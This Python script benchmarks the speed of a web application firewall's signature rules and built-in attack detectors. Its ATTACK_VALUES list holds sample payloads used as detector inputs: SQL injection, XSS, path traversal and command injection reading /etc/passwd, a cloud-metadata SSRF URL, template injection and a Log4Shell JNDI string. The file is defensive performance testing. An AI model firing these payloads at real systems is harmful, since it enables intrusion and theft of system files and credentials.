"""Speed of the signature layer: rule sets of 0, 100 and 1,000 rules, and the built-in detectors.

Part 1 (issue 9's target): inspections per second of a typical GET and a 2 KiB JSON POST through
the whole inspector (learned model, built-in attack detectors, rule detector), with a rule set of
0, 100 and 1,000 rules, and the ratio of the time per inspection against 0 rules measured in the
same run (these machines are noisy). The rules are a realistic mix: signatures on any value
(RE2 patterns and literal lists, which share one multi-pattern pass), virtual patches on named
fields of other routes and of the benchmarked ones, and detector signatures. Target: 1,000 rules
cost at most 2x the time of none.

Part 2: the built-in detectors alone, per value: microseconds per call on benign values of real
shapes (names, prose, user agents, JSON strings) and on attacks, and a request inspected with and
without them. Part 3: the slowest detector runs on 16 KiB adversarial values (long runs of the
characters that make backtracking engines slow); long values go to RE2, so these stay linear.

Usage: python benchmarks/signatures.py [--seconds 5] [--rounds 5]
"""

from __future__ import annotations

import sys
from pathlib import Path

_HERE = str(Path(__file__).resolve().parent)
sys.path[:] = [
    p for p in sys.path if str(Path(p or ".").resolve()) != _HERE
]  # benchmarks/inspect.py would shadow the standard library's inspect

import argparse  # noqa: E402
import datetime as dt  # noqa: E402
import random  # noqa: E402
import statistics  # noqa: E402
import string  # noqa: E402
import time  # noqa: E402
from collections.abc import Callable  # noqa: E402

import orjson  # noqa: E402

from vigil.behavior.decision import Mode  # noqa: E402
from vigil.behavior.engine import Engine  # noqa: E402
from vigil.http.model import Request  # noqa: E402
from vigil.signatures.detectors import AttackDetector, RuleDetector  # noqa: E402
from vigil.signatures.rules.ruleset import RuleSet  # noqa: E402
from vigil.signatures.rules.schema import Rule  # noqa: E402
from vigil.signatures.scan import DETECTORS, detect  # noqa: E402

HEADERS = [
    ("host", "shop.example"),
    ("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("accept-language", "en-US,en;q=0.5"),
    ("accept-encoding", "gzip, deflate, br"),
    ("connection", "keep-alive"),
    ("cookie", "session=4f9c2d7e8a1b3c5d; theme=dark"),
    ("upgrade-insecure-requests", "1"),
    ("cache-control", "max-age=0"),
    ("x-request-id", "a1b2c3d4"),
]
BENIGN_VALUES = [
    "tom",
    "O'Brien",
    "rock & roll",
    "Calle Mayor 5, 2º izquierda",
    "Please deliver before noon; the door code is 1234.",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "https://shop.example/products/42?ref=home",
    "2026-11-30T10:00:00Z",
    "Use `a[i] = b[i] + 1;` inside the loop -- it's faster",
]
ATTACK_VALUES = [
    "1' OR '1'='1",
    "1 union select null,version()--",
    "<svg/onload=alert(1)>",
    "../../etc/passwd",
    "; cat /etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "{{7*7}}",
    "${${lower:j}ndi:ldap://x.test/a}",
]


def _word(rng: random.Random, n: int) -> str:
    return "".join(rng.choice(string.ascii_lowercase) for _ in range(n))


def make_get(rng: random.Random) -> Request:
    query = f"q={_word(rng, rng.randint(3, 10))}&page={rng.randint(1, 50)}&sort={rng.choice(['asc', 'desc'])}"
    return Request("GET", "/search", query, list(HEADERS))


def make_post(rng: random.Random) -> Request:
    items = [
        {"sku": f"SKU-{rng.randint(1000, 9999)}", "qty": rng.randint(1, 5), "note": _word(rng, 20)}
        for _ in range(32)
    ]
    doc = {
        "customer": {"name": _word(rng, 8), "email": f"{_word(rng, 6)}@example.com"},
        "items": items,
    }
    return Request(
        "POST", "/orders", "", [*HEADERS, ("content-type", "application/json")], orjson.dumps(doc)
    )


def make_rules(count: int, rng: random.Random) -> list[Rule]:
    """``count`` rules: 60 % pattern signatures on any value, 10 % literal signatures, 20 % virtual
    patches (some on the benchmarked routes), 10 % detector signatures on one field each."""
    rules: list[Rule] = []
    for i in range(count):
        kind = i % 10
        token = _word(rng, 10)
        if kind < 6:
            spec: dict[str, object] = {
                "fields": ["any"],
                "forbid": {"regex": f"(?i){token}[0-9]{{2,8}}(?:\\.php|\\.jsp)?\\?[a-z]+="},
            }
        elif kind == 6:
            spec = {
                "fields": ["query.*", "json.*"],
                "forbid": {"contains": [token, token[::-1]], "ignore_case": True},
            }
        elif kind < 9:
            route = "GET /search" if i % 50 == 7 else f"POST /{token}"
            field = "query.page" if route == "GET /search" else f"form.{token}"
            spec = {"route": route, "fields": [field], "require": {"regex": "^[0-9]{1,4}$"}}
        else:
            spec = {
                "route": f"* /{token}/*",
                "fields": [f"query.{token}"],
                "forbid": {"detector": "sqli"},
            }
        rules.append(Rule.model_validate({"id": f"rule-{i}", **spec}))
    return rules


def rate(fn: Callable[[], object], seconds: float) -> float:
    """Calls per second of ``fn`` over about ``seconds``."""
    count = 0
    start = time.perf_counter()
    deadline = start + seconds
    while True:
        for _ in range(200):
            fn()
        count += 200
        now = time.perf_counter()
        if now >= deadline:
            return count / (now - start)


def cycle(items: list[Request], engine: Engine) -> Callable[[], object]:
    state = [0]

    def step() -> object:
        state[0] += 1
        return engine.inspect_request(items[state[0] % len(items)])

    return step


def rules_part(seconds: float, rounds: int) -> None:
    rng = random.Random(7)
    engine = Engine()
    for _ in range(2000):
        engine.observe(engine.inspect_request(make_get(rng)))
        engine.observe(engine.inspect_request(make_post(rng)))
    engine.learn()
    engine.set_mode(Mode.ENFORCE)
    gets = [make_get(rng) for _ in range(512)]
    posts = [make_post(rng) for _ in range(128)]
    now = dt.datetime.now(dt.UTC)
    detectors = {
        count: [
            RuleDetector(RuleSet.compile(make_rules(count, random.Random(count)), now)),
            AttackDetector(),
        ]
        for count in (0, 100, 1000)
    }
    print(
        "Part 1: inspections/s through the whole inspector (model + built-in detectors + rules);\n"
        f"  median of {rounds} rounds, the three rule counts measured in turn within each round"
    )
    for name, requests in (("GET", gets), ("POST 2 KiB JSON", posts)):
        samples: dict[int, list[float]] = {count: [] for count in detectors}
        for count, chain in detectors.items():
            engine.inspector.use(chain)
            for request in requests:
                decision = engine.inspect_request(request)
                if decision.blocked:
                    raise SystemExit(
                        f"benign request blocked with {count} rules: {decision.reason}"
                    )
        for _ in range(rounds):
            for count, chain in detectors.items():
                engine.inspector.use(chain)
                samples[count].append(rate(cycle(requests, engine), seconds / rounds))
        rates = {count: statistics.median(values) for count, values in samples.items()}
        base = rates[0]
        for count, got in rates.items():
            print(
                f"  {name:16s} {count:5d} rules {got:10,.0f} inspections/s   "
                f"time vs 0 rules {base / got:5.2f}x"
            )
    print("  target: 1,000 rules cost at most 2x the time of none")


def detectors_part(seconds: float) -> None:
    print(
        "\nPart 2: built-in detectors per value, routed as in a scan (microseconds per call, uncached)"
    )
    for attack in DETECTORS:
        cells = []
        for label, values in (("benign", BENIGN_VALUES), ("attacks", ATTACK_VALUES)):
            state = [0]

            def step(vals: list[str] = values, s: list[int] = state, a: object = attack) -> object:
                s[0] += 1
                return detect(a, vals[s[0] % len(vals)])  # type: ignore[arg-type]

            cells.append(f"{label} {1e6 / rate(step, seconds / 8):6.2f} us")
        print(f"  {attack.value:10s} {'   '.join(cells)}")
    rng = random.Random(9)
    engine = Engine()
    for _ in range(2000):
        engine.observe(engine.inspect_request(make_get(rng)))
    engine.learn()
    engine.set_mode(Mode.ENFORCE)
    gets = [make_get(rng) for _ in range(512)]
    without = rate(cycle(gets, engine), seconds)
    engine.inspector.use([AttackDetector()])
    with_detectors = rate(cycle(gets, engine), seconds)
    print(
        f"  GET inspection without built-in detectors {without:10,.0f}/s, with {with_detectors:10,.0f}/s "
        f"({without / with_detectors:4.2f}x the time)"
    )


ADVERSARIAL = (
    "\n",
    "{{",
    "${",
    "'",
    "<",
    "<a ",
    "../",
    "|",
    ";a",
    "$",
    "%",
    "(",
    "/*",
    "a.b",
    "1 or 1=1 ",
)
"""Seeds repeated to the detectors' 16 KiB read bound: the shapes that make backtracking slow."""


def worst_part() -> None:
    print("\nPart 3: worst case, one 16 KiB adversarial value through every detector (ms)")
    worst: list[tuple[float, str, str]] = []
    for seed in ADVERSARIAL:
        text = (seed * (16384 // len(seed) + 1))[:16384]
        for attack, detector in DETECTORS.items():
            started = time.perf_counter()
            detector(text)
            worst.append(((time.perf_counter() - started) * 1e3, attack.value, seed))
    worst.sort(reverse=True)
    for elapsed, name, seed in worst[:5]:
        print(f"  {elapsed:7.1f} ms  {name:10s} {seed!r} x {16384 // len(seed)}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument(
        "--seconds", type=float, default=5.0, help="per rule count and request kind"
    )
    parser.add_argument("--rounds", type=int, default=5)
    args = parser.parse_args()
    rules_part(args.seconds, args.rounds)
    detectors_part(args.seconds)
    worst_part()


if __name__ == "__main__":
    main()
